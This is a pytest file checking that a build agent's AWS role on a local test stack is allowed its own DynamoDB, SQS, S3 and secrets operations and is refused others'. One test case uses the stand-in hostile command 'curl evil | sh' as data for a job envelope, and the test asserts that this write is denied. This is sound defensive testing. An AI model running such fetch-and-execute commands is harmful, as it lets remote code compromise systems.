"""Each region affinity's agent role (template.yaml, AgentPolicy / AgentRole) allows what an agent
does and refuses the rest, on the local stack with IAM enforcement on: the stack's agents run as
sessions of it (stack.json agent_credentials).

Who refuses what, locally:
- moto's own IAM: actions of every service, and the SQS queue and S3 bucket a request names;
- the local stack's DynamoDB authorization (cli/relevo_cli/local/dynamodb_authorization.py):
  the table a request names and the `dynamodb:LeadingKeys` / `dynamodb:Attributes` conditions
  that keep the agent to its item kinds and attributes.
The same policy is linted offline against AWS's catalogue (tests/infrastructure/test_iam_lint.py).
"""

from __future__ import annotations

import secrets
from typing import Any

import pytest
from botocore.exceptions import ClientError

from relevo_agent import permissions
from relevo_agent.doctor import check_permissions
from relevo_core.aws import client
from tests.helpers.iam import client_as, refusal_code


def _as_agent(stack, region: str, service: str) -> Any:
    credentials = stack.agent_credentials[region]
    return client_as(stack, service, credentials.access_key_id, credentials.secret_access_key, credentials.session_token)


def _put(table: str, pk: str, sk: str, **attributes: str) -> dict[str, Any]:
    return {"TableName": table, "Item": {"pk": {"S": pk}, "sk": {"S": sk}, **{k: {"S": v} for k, v in attributes.items()}}}


def test_an_agent_session_is_a_session_of_its_regions_agent_role(local_stack):
    identity = _as_agent(local_stack, "eu-west", "sts").get_caller_identity()["Arn"]
    role = local_stack.agent_roles["eu-west"] if local_stack.agent_roles else None
    name = client("iam").get_role(RoleName=local_stack.resources["AgentRoleeuwest"])["Role"]["Arn"].rsplit("/", 1)[1]
    assert f":assumed-role/{name}/relevo-agent-eu-west" in identity
    assert role is None or role.endswith(f"/{name}")


def test_what_an_agent_does_is_allowed(local_stack):
    table, suffix = local_stack.table_name, secrets.token_hex(3)
    dynamodb, sqs = _as_agent(local_stack, "eu-west", "dynamodb"), _as_agent(local_stack, "eu-west", "sqs")
    sqs.receive_message(QueueUrl=local_stack.work_queues["eu-west"], WaitTimeSeconds=0)
    dynamodb.get_item(TableName=table, Key={"pk": {"S": f"STAGES#{suffix}"}, "sk": {"S": "STAGE#00"}})
    # At its start an agent reads its own presence record (store/agents.take_agent_id).
    dynamodb.get_item(
        TableName=table, Key={"pk": {"S": "AGENTS#eu-west"}, "sk": {"S": f"AGENT#agent-role-{suffix}"}}, ConsistentRead=True
    )
    # With each presence write it reads its own pause and its region's (store/agent_pauses.pauses_for_agent).
    dynamodb.batch_get_item(RequestItems={table: {"Keys": [
        {"pk": {"S": "PAUSES#eu-west"}, "sk": {"S": f"PAUSE#agent-role-{suffix}"}}, {"pk": {"S": "PAUSES#eu-west"}, "sk": {"S": "PAUSE"}}]}})
    # Writes are authorized, then refused by a condition that never holds: the session's other
    # tests read every presence and log record, so none is left behind.
    never = {"ConditionExpression": "attribute_exists(pk) AND attribute_not_exists(pk)"}
    for pk, sk in ((f"LOGS#agent-role-{suffix}", "SEQ#000000000000"), ("AGENTS#eu-west", f"AGENT#agent-role-{suffix}")):
        assert refusal_code(lambda: dynamodb.put_item(**_put(table, pk, sk, data="x"), **never)) == "ConditionalCheckFailedException"
    stage = {"pk": {"S": f"STAGES#agent-role-{suffix}"}, "sk": {"S": "STAGE#00"}}
    with pytest.raises(ClientError) as raised:  # authorized; then its condition fails
        dynamodb.update_item(
            TableName=table, Key=stage, UpdateExpression="SET #s = :s, lease_expires_at = :l",
            ConditionExpression="attribute_exists(pk)", ExpressionAttributeNames={"#s": "status"},
            ExpressionAttributeValues={":s": {"S": "running"}, ":l": {"N": "1"}},
        )
    assert raised.value.response["Error"]["Code"] == "ConditionalCheckFailedException"
    # A claim (store/stage_attempts.claim) also names its claim, what it took over, the agent's
    # journal entry, and refuses a stage closed with its job.
    with pytest.raises(ClientError) as raised:
        dynamodb.update_item(
            TableName=table, Key=stage, UpdateExpression="SET claim_id = :c, claimed_over = :o, journal_id = :j",
            ConditionExpression="attribute_exists(pk) AND attribute_not_exists(closed_at)",
            ExpressionAttributeValues={":c": {"S": "c"}, ":o": {"M": {}}, ":j": {"S": "j"}},
        )
    assert raised.value.response["Error"]["Code"] == "ConditionalCheckFailedException"
    # Each attempt's upload progress: the claim makes the map, renewals and the upload's end set
    # the attempt's entry in it (store/stage_attempts.claim, renew_lease, record_transfer).
    for expression, names, values in (
        ("SET transfers = if_not_exists(transfers, :none)", None, {":none": {"M": {}}}),
        ("SET lease_expires_at = :l, transfers.#a = :t", {"#a": "1"}, {":l": {"N": "1"}, ":t": {"M": {"files_done": {"N": "1"}}}}),
    ):
        with pytest.raises(ClientError) as raised:
            dynamodb.update_item(
                TableName=table, Key=stage, UpdateExpression=expression, ConditionExpression="attribute_exists(pk)",
                ExpressionAttributeValues=values, **({"ExpressionAttributeNames": names} if names else {}),
            )
        assert raised.value.response["Error"]["Code"] == "ConditionalCheckFailedException", expression


@pytest.mark.parametrize(
    "what, request_args, enforced_by",
    [
        ("a project's definition", lambda t, s: ("put_item", _put(t, f"PROJECT#p-{s}", "PROJECT")), "LeadingKeys"),
        ("a grant", lambda t, s: ("put_item", _put(t, f"PROJECT#p-{s}", "GRANT#arn:aws:iam::123456789012:user/mallory", level="manage")), "LeadingKeys"),
        ("a project lock", lambda t, s: ("put_item", _put(t, f"LOCK#p-{s}", "LOCK")), "LeadingKeys"),
        ("a dedup record", lambda t, s: ("put_item", _put(t, f"DEDUP#p-{s}", "DEDUP")), "LeadingKeys"),
        ("another region's presence", lambda t, s: ("put_item", _put(t, "AGENTS#us-east", f"AGENT#x-{s}")), "LeadingKeys"),
        (
            "a job's envelope (its stage commands)",
            lambda t, s: ("update_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}},
                                          "UpdateExpression": "SET envelope = :e", "ExpressionAttributeValues": {":e": {"S": "curl evil | sh"}}}),
            "Attributes",
        ),
        (
            # The job's outcome is the state machine's to write (MarkSucceeded, MarkFailedAfterStage):
            # a stage record lives in STAGES#<job>, the job record in JOB#<job>, and the agent's
            # writes reach only the first.
            "a job's outcome (the stage it last got through)",
            lambda t, s: ("update_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}},
                                          "UpdateExpression": "SET last_successful_stage = :s", "ExpressionAttributeValues": {":s": {"S": "sign"}}}),
            "LeadingKeys",
        ),
        ("deleting a job", lambda t, s: ("delete_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}}}), "action"),
    ],
)
def test_an_agent_cannot_write_what_it_must_never_touch(local_stack, what, request_args, enforced_by):
    operation, args = request_args(local_stack.table_name, secrets.token_hex(3))
    dynamodb = _as_agent(local_stack, "eu-west", "dynamodb")
    assert refusal_code(lambda: getattr(dynamodb, operation)(**args)) == "AccessDeniedException", what
    # The stack's own administrator may: the refusal is the agent role's, not the table's. (Its
    # write carries a condition that never holds, so nothing is left for other tests to find.)
    never = {**args, "ConditionExpression": "attribute_exists(pk) AND attribute_not_exists(pk)"}
    assert refusal_code(lambda: getattr(client("dynamodb"), operation)(**never)) == "ConditionalCheckFailedException", what


def test_an_agent_cannot_take_another_regions_stages_use_another_bucket_or_start_jobs(local_stack):
    sqs = _as_agent(local_stack, "eu-west", "sqs")
    assert refusal_code(lambda: sqs.receive_message(QueueUrl=local_stack.work_queues["us-east"], WaitTimeSeconds=0)) == "AccessDenied"
    # It may put a stage it cannot run back on its own region's queue (a stage's `requires`), never
    # send to another region's.
    assert refusal_code(lambda: sqs.send_message(QueueUrl=local_stack.work_queues["us-east"], MessageBody="{}")) == "AccessDenied"
    other = f"not-relevo-{secrets.token_hex(3)}"
    client("s3").create_bucket(Bucket=other)
    s3 = _as_agent(local_stack, "eu-west", "s3")
    assert refusal_code(lambda: s3.put_object(Bucket=other, Key="x", Body=b"x")) == "AccessDenied"
    s3.put_object(Bucket=local_stack.resources["ArtifactBucket"], Key=f"p/j-{other}/build/x", Body=b"x")
    sfn = _as_agent(local_stack, "eu-west", "stepfunctions")
    assert refusal_code(lambda: sfn.start_execution(stateMachineArn=local_stack.state_machine_arn, input="{}")) == "AccessDeniedException"
    secrets_manager = _as_agent(local_stack, "eu-west", "secretsmanager")
    assert refusal_code(lambda: secrets_manager.get_secret_value(SecretId=f"relevo/{local_stack.stack_name}/p/github")) == "AccessDeniedException"


def test_an_agent_reads_the_pauses_it_obeys_and_can_set_or_lift_none(local_stack, monkeypatch):
    """Pauses are the operators' (POST /agents/{id}/pause, admins only): an agent that could write
    them could pause its peers, or lift or stretch its own. It reads its own and its region's with
    every presence write; writing either, where the store keeps them, is refused."""
    from datetime import datetime, timedelta, timezone

    from relevo_core.store import agent_pauses

    table, peer = local_stack.table_name, f"mac-{secrets.token_hex(3)}"
    now = datetime.now(timezone.utc)
    pause = agent_pauses.AgentPause(region="eu-west", agent_id=peer, note="forged", set_at=now, until=now + timedelta(days=7), timeout_sec=600)
    with monkeypatch.context() as agent:
        _with_credentials(agent, local_stack, local_stack.agent_credentials["eu-west"])
        assert agent_pauses.pauses_for_agent(table, "eu-west", peer) == (None, None)
        for what, write in (
            ("pausing a peer", lambda: agent_pauses.put_pause(table, pause)),
            ("pausing the region's dispatch", lambda: agent_pauses.put_pause(table, pause.model_copy(update={"agent_id": None}))),
            ("lifting a pause", lambda: agent_pauses.delete_pause(table, "eu-west", peer)),
        ):
            assert refusal_code(write) == "AccessDeniedException", what
    from relevo_core.aws import reset_clients

    reset_clients()  # back to the test's own credentials: nothing was written
    assert agent_pauses.region_pauses(table, "eu-west").get(peer) is None


def _with_credentials(monkeypatch, stack, credentials) -> None:
    from relevo_core.aws import reset_clients

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", credentials.access_key_id)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", credentials.secret_access_key)
    if credentials.session_token:
        monkeypatch.setenv("AWS_SESSION_TOKEN", credentials.session_token)
    else:
        monkeypatch.delenv("AWS_SESSION_TOKEN", raising=False)
    reset_clients()


def test_doctor_finds_an_agents_credentials_fit_and_names_excess_and_missing_ones(local_stack, monkeypatch):
    with monkeypatch.context() as agent:
        _with_credentials(agent, local_stack, local_stack.agent_credentials["eu-west"])
        fits = check_permissions(local_stack, "eu-west", None)
    assert fits.ok, fits.words
    assert "are allowed" in fits.words and "are refused" in fits.words

    # The stack administrator's credentials can do far more than an agent should.
    with monkeypatch.context() as admin:
        _with_credentials(admin, local_stack, local_stack.local_credentials)
        too_much = check_permissions(local_stack, "eu-west", None)
    assert not too_much.ok
    assert "these credentials can write project items (dynamodb:PutItem); an agent's should not" in too_much.words
    assert "take us-east's stages" in too_much.words and "start executions" in too_much.words
    assert "these credentials can read webhook secrets (secretsmanager:GetSecretValue)" in too_much.words
    assert "these credentials can set or lift pauses (dynamodb:PutItem); an agent's should not" in too_much.words

    # An agent of another region may not take this region's stages.
    with monkeypatch.context() as other:
        _with_credentials(other, local_stack, local_stack.agent_credentials["us-east"])
        wrong_region = check_permissions(local_stack, "eu-west", None)
    assert not wrong_region.ok
    assert "missing: " in wrong_region.words and "hand stage messages back (sqs:ChangeMessageVisibility)" in wrong_region.words
    assert "write presence in eu-west" in wrong_region.words and "read pauses in eu-west" in wrong_region.words
    assert "cannot read eu-west's signing identities (secretsmanager:GetSecretValue)" in wrong_region.words


def test_every_probe_of_doctor_is_harmless(local_stack, monkeypatch):
    """Probes run with the administrator's credentials (everything allowed) write nothing."""
    with monkeypatch.context() as admin:
        _with_credentials(admin, local_stack, local_stack.local_credentials)
        findings = [permissions.run(probe) for probe in permissions.probes(
            local_stack.table_name, "eu-west", local_stack.work_queues["eu-west"],
            {"us-east": local_stack.work_queues["us-east"]}, local_stack.resources["ArtifactBucket"], local_stack.state_machine_arn,
        )]
    assert all(finding.allowed for finding in findings), [(f.probe.what, f.why) for f in findings if not f.allowed]
    probe = permissions.PROBE_ID
    for pk, sk in [(f"STAGES#{probe}", "STAGE#00"), (f"JOB#{probe}", "STAGE#00"), (f"JOB#{probe}", "JOB"), (f"LOGS#{probe}", "SEQ#000000000000"), (f"ARTIFACTS#{probe}", "probe"),
                   ("AGENTS#eu-west", f"AGENT#{probe}"), (f"PROJECT#{probe}", "PROJECT"), (f"PROJECT#{probe}", f"GRANT#{probe}"),
                   (f"LOCK#{probe}", "LOCK"), (f"DEDUP#{probe}", "DEDUP"), ("PAUSES#eu-west", f"PAUSE#{probe}")]:
        assert "Item" not in client("dynamodb").get_item(TableName=local_stack.table_name, Key={"pk": {"S": pk}, "sk": {"S": sk}}), (pk, sk)


def test_an_agent_reads_its_own_regions_signing_identities_and_no_other_secret(local_stack):
    """ReadSigningIdentities (issue 20): relevo/<stack>/_signing/<its region>/…, nothing wider.
    AWS refuses an unauthorized GetSecretValue with AccessDeniedException (Secrets Manager API
    Reference, GetSecretValue errors; "Authentication and access control for AWS Secrets Manager")."""
    from relevo_agent.keychain import read_identities
    from relevo_core.models.plan import SigningPlan

    suffix, stack_name = secrets.token_hex(3), local_stack.stack_name
    admin = client("secretsmanager")
    names = {}
    for key, name in {
        "own_p12": f"relevo/{stack_name}/_signing/eu-west/app-{suffix}/dist.p12",
        "own_pass": f"relevo/{stack_name}/_signing/eu-west/app-{suffix}/dist.pass",
        "other_region": f"relevo/{stack_name}/_signing/us-east/app-{suffix}/dist.p12",
        "webhook": f"relevo/{stack_name}/app-{suffix}/github",
    }.items():
        value = {"SecretBinary": b"\x30\x82p12"} if key in ("own_p12", "other_region") else {"SecretString": "pass phrase"}
        names[key] = admin.create_secret(Name=name, **value)["Name"]
    agent = _as_agent(local_stack, "eu-west", "secretsmanager")
    assert agent.get_secret_value(SecretId=names["own_p12"])["SecretBinary"] == b"\x30\x82p12"
    for refused in ("other_region", "webhook"):
        assert refusal_code(lambda: agent.get_secret_value(SecretId=names[refused])) == "AccessDeniedException", refused

    # The agent's reader: bytes of the SecretBinary, the passphrase's line; a .p12 kept as a
    # SecretString is refused with what to do instead.
    plan = SigningPlan(keychain="temporary", identities=[{"p12_ref": names["own_p12"], "passphrase_ref": names["own_pass"]}])
    [identity] = read_identities(plan)
    assert (identity.p12, identity.passphrase) == (b"\x30\x82p12", "pass phrase")
    as_string = admin.create_secret(Name=f"relevo/{stack_name}/_signing/eu-west/app-{suffix}/b64.p12", SecretString="MIIMHwIBAzCC")["Name"]
    from relevo_agent.keychain import KeychainFailure

    with pytest.raises(KeychainFailure, match="is a SecretString: store the .p12 as SecretBinary"):
        read_identities(SigningPlan(keychain="temporary", identities=[{"p12_ref": as_string, "passphrase_ref": names["own_pass"]}]))
    with pytest.raises(KeychainFailure, match=r"Secrets Manager refused \(ResourceNotFoundException\)"):
        read_identities(SigningPlan(keychain="temporary", identities=[{"p12_ref": as_string + "-gone", "passphrase_ref": names["own_pass"]}]))
